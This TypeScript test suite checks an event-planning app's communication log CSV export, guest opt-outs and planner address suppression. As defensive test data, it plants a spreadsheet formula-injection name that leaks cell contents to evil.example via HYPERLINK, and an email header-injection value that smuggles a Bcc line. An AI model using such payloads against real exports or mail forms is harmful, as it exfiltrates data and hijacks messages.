import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { CommKind } from '../../../src/generated/prisma/client.js';
import { queueMessages } from '../../../src/domains/communications/communications.service.js';
import { LOG_COLUMNS } from '../../../src/domains/communications/log-csv.js';
import { messagingEnv } from '../../../src/domains/communications/messaging-env.js';
import type { Caller } from '../../../src/platform/principal.js';
import { buildWorld, must, uniq, type World } from '../../support/factories.js';
import { errorCode, startServer } from '../../support/harness.js';
import { globalId, rawId } from '../../support/rows.js';

/**
 * Who gets what, as planners and guests manage it: the communication log as
 * CSV (formula-safe, addresses only with actor:read_contact), a guest's own
 * opt-outs through its link, and the planner's side (suppressed addresses,
 * a guest's wishes recorded for them). Messages are queued with
 * queueMessages, as a sending flow does; nothing here sends them.
 */

// A database of its own: no other suite's sender takes these messages, which are checked as QUEUED.
const s = await startServer({ PUBLIC_URL: 'https://tovplus.test' }, { ownDatabase: true });
const prisma = s.app.db.prisma;
const system: Caller = { principal: { kind: 'system', reason: 'test', actions: [] }, requestId: 'test' };

const CSV = `query($o: ID!, $f: MessageFilter) { communicationLogCsv(occasionId: $o, filter: $f) }`;
const G_PREFS = `query { guestCommunicationPreferences { category channel optedOut } }`;
const G_SET = `mutation($i: SetGuestCommunicationPreferencesInput!) { setGuestCommunicationPreferences(input: $i) { __typename
  ... on CommunicationPreferencesPayload { preferences { category channel optedOut } }
  ... on ValidationError { code fields { path message } } } }`;
const SET = `mutation($i: SetCommunicationPreferencesInput!) { setCommunicationPreferences(input: $i) { __typename
  ... on CommunicationPreferencesPayload { preferences { category channel optedOut } }
  ... on ValidationError { code fields { path message } } } }`;
const ACTOR_PREFS = `query($id: ID!) { actor(id: $id) { communicationPreferences { category channel optedOut } } }`;
const SUPPRESS = `mutation($i: SuppressAddressInput!) { suppressAddress(input: $i) { __typename
  ... on SuppressAddressPayload { suppressedAddress { id address reason createdAt message { id } } }
  ... on ValidationError { code fields { path message } } } }`;
const RESTORE = `mutation($i: RestoreAddressInput!) { restoreAddress(input: $i) { restoredId occasion { id } } }`;
const SUPPRESSED = `query($o: ID!) { occasion(id: $o) { suppressedAddresses(first: 20) { totalCount edges { node { id address reason message { id status } } } } } }`;

type Pref = { category: string; channel: string; optedOut: boolean };
const optedOut = (prefs: Pref[]) =>
  prefs
    .filter((p) => p.optedOut)
    .map((p) => `${p.category}/${p.channel}`)
    .sort();

const world = (collaborators: Record<string, undefined> = {}) => buildWorld(s, { events: 1, households: [2, 1], collaborators });

/** A mutation's data, typed errors included (`must` treats those as a failed set-up). */
async function data(token: string, query: string, variables: Record<string, unknown>) {
  const r = await s.gql(query, variables, { token });
  expect(r.body.errors, JSON.stringify(r.body)).toBeUndefined();
  return r.body.data;
}

async function guestToken(w: World, unitId: string): Promise<string> {
  const r = await must(
    s,
    w.owner.token,
    `mutation($i: IssueGuestAccessInput!) { issueGuestAccess(input: $i) { ... on IssueGuestAccessPayload { token } } }`,
    {
      i: { occasionId: w.occasionId, unitId },
    },
  );
  return r.issueGuestAccess.token;
}

/** The people of a household as queueMessages takes them: each at their own address, about their household. */
async function peopleOf(w: World, household: number) {
  const h = w.households[household]!;
  const rows = await prisma.actor.findMany({ where: { id: { in: h.memberIds.map(rawId) } }, select: { id: true, email: true } });
  return rows.map((r) => ({ recipientActorId: r.id, unitActorId: rawId(h.id), address: r.email! }));
}

async function queue(w: World, kind: CommKind, recipients: { recipientActorId: string | null; unitActorId?: string; address: string }[]) {
  return prisma.$transaction((tx) =>
    queueMessages(tx, system, messagingEnv(s.app.config), {
      occasionId: rawId(w.occasionId),
      kind,
      channel: 'EMAIL',
      audience: { test: true },
      recipients: recipients.map((r) => ({ ...r, variables: {}, idempotencyKey: `test-${uniq()}` })),
    }),
  );
}

const statusesOf = async (sendId: string) =>
  Object.fromEntries(
    (await prisma.commDelivery.findMany({ where: { sendId }, select: { address: true, status: true } })).map((d) => [d.address, d.status]),
  );

async function written(w: World) {
  const occasionId = rawId(w.occasionId);
  return {
    preferences: await prisma.commPreference.count({ where: { occasionId } }),
    suppressions: await prisma.commSuppression.count({ where: { occasionId } }),
    deliveries: await prisma.commDelivery.groupBy({ by: ['status'], where: { occasionId }, _count: { _all: true }, orderBy: { status: 'asc' } }),
    audit: await prisma.auditLog.count({ where: { occasionId, outcome: 'SUCCESS' } }),
  };
}

describe('communicationLogCsv', () => {
  it('one row per message, newest first, every column; names that look like formulas are neutralised', async () => {
    const w = await world();
    const [a, b] = w.households[0]!.memberIds;
    const rename = (id: string, displayName: string) =>
      must(s, w.owner.token, `mutation($i: UpdateActorInput!) { updateActor(input: $i) { __typename } }`, { i: { id, displayName } });
    await rename(a!, '=HYPERLINK("https://evil.example/?"&A1,"Click")');
    await rename(b!, '+1 (555) 0100');
    await rename(w.households[0]!.id, '@Cohen\tfamily');
    await rename(w.households[1]!.memberIds[0]!, '-2');
    const invited = await queue(w, 'RSVP_INVITATION', await peopleOf(w, 0));
    const announced = await queue(w, 'ANNOUNCEMENT', [...(await peopleOf(w, 0)), ...(await peopleOf(w, 1))]);
    expect([invited.queued, announced.queued]).toEqual([2, 3]);

    const csv = (await must(s, w.owner.token, CSV, { o: w.occasionId })).communicationLogCsv as string;
    expect(csv.split('\r\n').length).toBe(1 + 5 + 1);
    const rows = parse<Record<string, string>>(csv, { columns: true });
    expect(Object.keys(rows[0]!)).toEqual([...LOG_COLUMNS]);
    expect(rows.map((r) => r.kind)).toEqual(['ANNOUNCEMENT', 'ANNOUNCEMENT', 'ANNOUNCEMENT', 'RSVP_INVITATION', 'RSVP_INVITATION']);
    // No cell a spreadsheet would run: each starts with an apostrophe instead.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const byName = (n: string) => rows.filter((r) => r.recipient === n);
    expect(byName(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toHaveLength(2);
    expect(byName("'+1 (555) 0100")).toHaveLength(2);
    expect(byName("'-2")).toHaveLength(1);
    expect(rows.filter((r) => r.unit === "'@Cohen\tfamily")).toHaveLength(4);

    const email = (await prisma.actor.findUniqueOrThrow({ where: { id: rawId(a!) } })).email!;
    const row = rows.find((r) => r.kind === 'RSVP_INVITATION' && r.address === email)!;
    const d = await prisma.commDelivery.findFirstOrThrow({ where: { sendId: invited.sendId, address: email } });
    expect(row).toMatchObject({
      queued_at: d.queuedAt.toISOString(),
      sent_at: '',
      category: 'INVITATIONS',
      channel: 'EMAIL',
      locale: 'en',
      status: 'QUEUED',
      template_version: '',
      last_error_class: '',
      attempts: '0',
    });

    // The log's filters.
    const filtered = (await must(s, w.owner.token, CSV, { o: w.occasionId, f: { kinds: ['RSVP_INVITATION'], recipientId: a } })).communicationLogCsv;
    expect(parse<Record<string, string>>(filtered, { columns: true }).map((r) => r.address)).toEqual([email]);
  });

  it('leaves the address column out for a caller without actor:read_contact, and refuses one without communications:view', async () => {
    const w = await world({ viewer: undefined, helper: undefined });
    await queue(w, 'ANNOUNCEMENT', await peopleOf(w, 1));
    expect(errorCode(await s.gql(CSV, { o: w.occasionId }, { token: w.people.viewer!.token }))).toBe('FORBIDDEN');
    expect(errorCode(await s.gql(CSV, { o: w.occasionId }, { token: w.people.helper!.token }))).toBe('FORBIDDEN');
    await must(s, w.owner.token, `mutation($i: GrantAccessInput!) { grantAccess(input: $i) { __typename } }`, {
      i: { occasionId: w.occasionId, subjectId: w.people.viewer!.actorId, actions: ['communications:view'], scope: { type: 'OCCASION' } },
    });
    const csv = (await must(s, w.people.viewer!.token, CSV, { o: w.occasionId, f: { kinds: ['ANNOUNCEMENT'] } })).communicationLogCsv as string;
    const [header, ...rows]: string[][] = parse(csv);
    expect(header).toEqual(LOG_COLUMNS.filter((c) => c !== 'address'));
    expect(rows).toHaveLength(1);
    const email = (await peopleOf(w, 1))[0]!.address;
    expect(csv).not.toContain(email);
    // The same caller cannot read the suppressed addresses' addresses either.
    await must(s, w.owner.token, SUPPRESS, { i: { occasionId: w.occasionId, address: email } });
    const r = await s.gql(SUPPRESSED, { o: w.occasionId }, { token: w.people.viewer!.token });
    expect(errorCode(r)).toBe('FORBIDDEN');
    expect(r.body.errors![0]!.path).toEqual(['occasion', 'suppressedAddresses', 'edges', 0, 'node', 'address']);
  });

  it('refuses another occasion’s log (NOT_FOUND)', async () => {
    const w = await world();
    const other = await world();
    await queue(other, 'ANNOUNCEMENT', await peopleOf(other, 0));
    expect(errorCode(await s.gql(CSV, { o: other.occasionId }, { token: w.owner.token }))).toBe('NOT_FOUND');
  });
});

describe('a guest’s preferences through its link', () => {
  it('a guest opts its household out of announcements: announcements to its people are SUPPRESSED, invitations still go, other households are untouched', async () => {
    const w = await world();
    const guest = await guestToken(w, w.households[0]!.id);
    const initial = (await must(s, guest, G_PREFS)).guestCommunicationPreferences as Pref[];
    expect(initial).toHaveLength(4);
    expect(optedOut(initial)).toEqual([]);

    const r = (await must(s, guest, G_SET, { i: { preferences: [{ category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: true }] } }))
      .setGuestCommunicationPreferences;
    expect(r.__typename).toBe('CommunicationPreferencesPayload');
    expect(optedOut(r.preferences)).toEqual(['ANNOUNCEMENTS/EMAIL']);
    expect(optedOut((await must(s, guest, G_PREFS)).guestCommunicationPreferences)).toEqual(['ANNOUNCEMENTS/EMAIL']);
    // One audit row, the guest's link as the principal.
    const audit = await prisma.auditLog.findMany({ where: { occasionId: rawId(w.occasionId), action: 'communications:manage_recipients' } });
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ principalType: 'guest', targetId: rawId(w.households[0]!.id) });

    const mine = await peopleOf(w, 0);
    const theirs = await peopleOf(w, 1);
    const announcement = await queue(w, 'ANNOUNCEMENT', [...mine, ...theirs]);
    expect(announcement).toMatchObject({ queued: 1, suppressed: 2 });
    const statuses = await statusesOf(announcement.sendId);
    for (const p of mine) expect(statuses[p.address]).toBe('SUPPRESSED');
    expect(statuses[theirs[0]!.address]).toBe('QUEUED');
    expect((await prisma.commDelivery.findFirstOrThrow({ where: { sendId: announcement.sendId, address: mine[0]!.address } })).lastErrorClass).toBe(
      'suppressed:opted_out',
    );
    const invitation = await queue(w, 'RSVP_INVITATION', mine);
    expect(invitation).toMatchObject({ queued: 2, suppressed: 0 });
  });

  it('a guest changes only its own unit: another household’s guest sees and changes its own', async () => {
    const w = await world();
    const other = await world();
    const first = await guestToken(w, w.households[0]!.id);
    const second = await guestToken(w, w.households[1]!.id);
    const elsewhere = await guestToken(other, other.households[0]!.id);
    await must(s, second, G_SET, { i: { preferences: [{ category: 'INVITATIONS', channel: 'EMAIL', optedOut: true }] } });
    await must(s, elsewhere, G_SET, { i: { preferences: [{ category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: true }] } });
    expect(optedOut((await must(s, first, G_PREFS)).guestCommunicationPreferences)).toEqual([]);
    expect(optedOut((await must(s, second, G_PREFS)).guestCommunicationPreferences)).toEqual(['INVITATIONS/EMAIL']);
    const r = await queue(w, 'RSVP_INVITATION', [...(await peopleOf(w, 0)), ...(await peopleOf(w, 1))]);
    expect(r).toMatchObject({ queued: 2, suppressed: 1 });
    expect(await queue(w, 'ANNOUNCEMENT', await peopleOf(w, 0))).toMatchObject({ queued: 2, suppressed: 0 });
    // Planners and anonymous callers do not reach the guest fields.
    expect(errorCode(await s.gql(G_PREFS, {}, { token: w.owner.token }))).toBe('FORBIDDEN');
    expect(errorCode(await s.gql(G_PREFS, {}))).toBe('UNAUTHENTICATED');
  });

  it('transactional messages cannot be opted out of: a ValidationError, nothing written', async () => {
    const w = await world();
    const guest = await guestToken(w, w.households[0]!.id);
    const before = await written(w);
    const r = (
      await data(guest, G_SET, {
        i: {
          preferences: [
            { category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: true },
            { category: 'TRANSACTIONAL', channel: 'EMAIL', optedOut: true },
          ],
        },
      })
    ).setGuestCommunicationPreferences;
    expect(r).toMatchObject({ __typename: 'ValidationError', code: 'VALIDATION_FAILED', fields: [{ path: 'input.preferences.1.category' }] });
    const twice = (
      await data(guest, G_SET, {
        i: {
          preferences: [
            { category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: true },
            { category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: false },
          ],
        },
      })
    ).setGuestCommunicationPreferences;
    expect(twice).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.preferences.1' }] });
    expect(await written(w)).toEqual(before);
  });
});

describe('planner side: suppressed addresses and preferences', () => {
  it('suppress an address: queued messages to it are withdrawn, later ones SUPPRESSED; restore it: they go again', async () => {
    const w = await world();
    const [person] = await peopleOf(w, 1);
    const pending = await queue(w, 'RSVP_INVITATION', [person!]);
    const r = (await must(s, w.owner.token, SUPPRESS, { i: { occasionId: w.occasionId, address: `  ${person!.address.toUpperCase()} ` } }))
      .suppressAddress;
    expect(r.__typename).toBe('SuppressAddressPayload');
    expect(r.suppressedAddress).toMatchObject({ address: person!.address, reason: 'MANUAL', message: null });
    expect(await statusesOf(pending.sendId)).toEqual({ [person!.address]: 'SUPPRESSED' });
    expect(await queue(w, 'RSVP_CONFIRMATION', [person!])).toMatchObject({ queued: 0, suppressed: 1 });

    // Again: stays as it is, no second row or audit entry.
    const audit = await prisma.auditLog.count({ where: { occasionId: rawId(w.occasionId) } });
    const again = (await must(s, w.owner.token, SUPPRESS, { i: { occasionId: w.occasionId, address: person!.address } })).suppressAddress;
    expect(again.suppressedAddress.id).toBe(r.suppressedAddress.id);
    expect(await prisma.auditLog.count({ where: { occasionId: rawId(w.occasionId) } })).toBe(audit);

    const list = (await must(s, w.owner.token, SUPPRESSED, { o: w.occasionId })).occasion.suppressedAddresses;
    expect(list.totalCount).toBe(1);
    expect(list.edges[0].node).toMatchObject({ id: r.suppressedAddress.id, address: person!.address, reason: 'MANUAL' });

    const restored = (await must(s, w.owner.token, RESTORE, { i: { id: r.suppressedAddress.id } })).restoreAddress;
    expect(restored).toEqual({ restoredId: r.suppressedAddress.id, occasion: { id: w.occasionId } });
    expect((await must(s, w.owner.token, SUPPRESSED, { o: w.occasionId })).occasion.suppressedAddresses.totalCount).toBe(0);
    expect(await queue(w, 'RSVP_INVITATION', [person!])).toMatchObject({ queued: 1, suppressed: 0 });
    // What was suppressed stays so.
    expect(await statusesOf(pending.sendId)).toEqual({ [person!.address]: 'SUPPRESSED' });
    expect(errorCode(await s.gql(RESTORE, { i: { id: r.suppressedAddress.id } }, { token: w.owner.token }))).toBe('NOT_FOUND');
  });

  it('a bounce’s suppression names the message that caused it', async () => {
    const w = await world();
    const [person] = await peopleOf(w, 1);
    const sent = await queue(w, 'RSVP_INVITATION', [person!]);
    const d = await prisma.commDelivery.findFirstOrThrow({ where: { sendId: sent.sendId } });
    await prisma.commSuppression.create({ data: { occasionId: d.occasionId, address: d.address, reason: 'HARD_BOUNCE', deliveryId: d.id } });
    const node = (await must(s, w.owner.token, SUPPRESSED, { o: w.occasionId })).occasion.suppressedAddresses.edges[0].node;
    expect(node).toMatchObject({ reason: 'HARD_BOUNCE', message: { id: globalId('Message', d.id), status: 'QUEUED' } });
  });

  it('a bad address is a ValidationError; nothing is written', async () => {
    const w = await world();
    const before = await written(w);
    for (const address of ['not an address', 'a@b', 'x@example.com\r\nBcc: y@example.com', '']) {
      const r = (await data(w.owner.token, SUPPRESS, { i: { occasionId: w.occasionId, address } })).suppressAddress;
      expect(r, address).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.address' }] });
    }
    expect(await written(w)).toEqual(before);
  });

  it('a planner records a household’s wish: it covers its people; TRANSACTIONAL is refused', async () => {
    const w = await world();
    const household = w.households[0]!;
    const r = (
      await must(s, w.owner.token, SET, {
        i: { actorId: household.id, preferences: [{ category: 'INVITATIONS', channel: 'EMAIL', optedOut: true }] },
      })
    ).setCommunicationPreferences;
    expect(optedOut(r.preferences)).toEqual(['INVITATIONS/EMAIL']);
    const member = (await must(s, w.owner.token, ACTOR_PREFS, { id: household.memberIds[1] })).actor.communicationPreferences;
    expect(optedOut(member)).toEqual(['INVITATIONS/EMAIL']);
    expect(await queue(w, 'RSVP_REMINDER', await peopleOf(w, 0))).toMatchObject({ queued: 0, suppressed: 2 });
    const audit = await prisma.auditLog.findFirstOrThrow({ where: { occasionId: rawId(w.occasionId), action: 'communications:manage_recipients' } });
    expect(audit).toMatchObject({ principalType: 'user', targetId: rawId(household.id), reason: 'A planner recorded the recipient’s wishes.' });

    // Opting back in.
    await must(s, w.owner.token, SET, {
      i: { actorId: household.id, preferences: [{ category: 'INVITATIONS', channel: 'EMAIL', optedOut: false }] },
    });
    expect(await queue(w, 'RSVP_REMINDER', await peopleOf(w, 0))).toMatchObject({ queued: 2, suppressed: 0 });

    const before = await written(w);
    const refused = (
      await data(w.owner.token, SET, { i: { actorId: household.id, preferences: [{ category: 'TRANSACTIONAL', channel: 'EMAIL', optedOut: true }] } })
    ).setCommunicationPreferences;
    expect(refused).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.preferences.0.category' }] });
    expect(await written(w)).toEqual(before);
  });

  it('a group’s choice reaches the people of its households', async () => {
    const w = await world();
    const t = w.owner.token;
    const group = (
      await must(s, t, `mutation($i: CreateActorInput!) { createActor(input: $i) { ... on ActorPayload { actor { id } } } }`, {
        i: { occasionId: w.occasionId, kind: 'GROUP', displayName: 'College friends' },
      })
    ).createActor.actor.id;
    await must(s, t, `mutation($i: AddMembershipInput!) { addMembership(input: $i) { __typename } }`, {
      i: { groupId: group, memberId: w.households[0]!.id },
    });
    await must(s, t, SET, { i: { actorId: group, preferences: [{ category: 'ANNOUNCEMENTS', channel: 'EMAIL', optedOut: true }] } });
    expect(await queue(w, 'ANNOUNCEMENT', [...(await peopleOf(w, 0)), ...(await peopleOf(w, 1))])).toMatchObject({ queued: 1, suppressed: 2 });
  });

  it('viewers and helpers may do none of it (FORBIDDEN); another occasion’s ids are NOT_FOUND; nothing is written', async () => {
    const w = await world({ viewer: undefined, helper: undefined });
    const other = await world();
    const [theirs] = await peopleOf(other, 0);
    const otherSuppression = (await must(s, other.owner.token, SUPPRESS, { i: { occasionId: other.occasionId, address: theirs!.address } }))
      .suppressAddress.suppressedAddress;
    const mine = (await must(s, w.owner.token, SUPPRESS, { i: { occasionId: w.occasionId, address: 'kept@example.com' } })).suppressAddress
      .suppressedAddress;
    const before = [await written(w), await written(other)];

    for (const who of ['viewer', 'helper']) {
      const token = w.people[who]!.token;
      const calls = [
        s.gql(SUPPRESS, { i: { occasionId: w.occasionId, address: 'x@example.com' } }, { token }),
        s.gql(RESTORE, { i: { id: mine.id } }, { token }),
        s.gql(SET, { i: { actorId: w.households[0]!.id, preferences: [{ category: 'INVITATIONS', channel: 'EMAIL', optedOut: true }] } }, { token }),
        s.gql(SUPPRESSED, { o: w.occasionId }, { token }),
        s.gql(ACTOR_PREFS, { id: w.households[0]!.id }, { token }),
      ];
      for (const r of await Promise.all(calls)) expect(errorCode(r), `${who}: ${JSON.stringify(r.body)}`).toBe('FORBIDDEN');
    }

    const t = w.owner.token;
    expect(errorCode(await s.gql(RESTORE, { i: { id: otherSuppression.id } }, { token: t }))).toBe('NOT_FOUND');
    expect(errorCode(await s.gql(SUPPRESS, { i: { occasionId: other.occasionId, address: 'x@example.com' } }, { token: t }))).toBe('NOT_FOUND');
    expect(
      errorCode(
        await s.gql(
          SET,
          { i: { actorId: other.households[0]!.id, preferences: [{ category: 'INVITATIONS', channel: 'EMAIL', optedOut: true }] } },
          { token: t },
        ),
      ),
    ).toBe('NOT_FOUND');
    expect(errorCode(await s.gql(ACTOR_PREFS, { id: other.households[0]!.id }, { token: t }))).toBe('NOT_FOUND');
    expect([await written(w), await written(other)]).toEqual(before);
  });
});
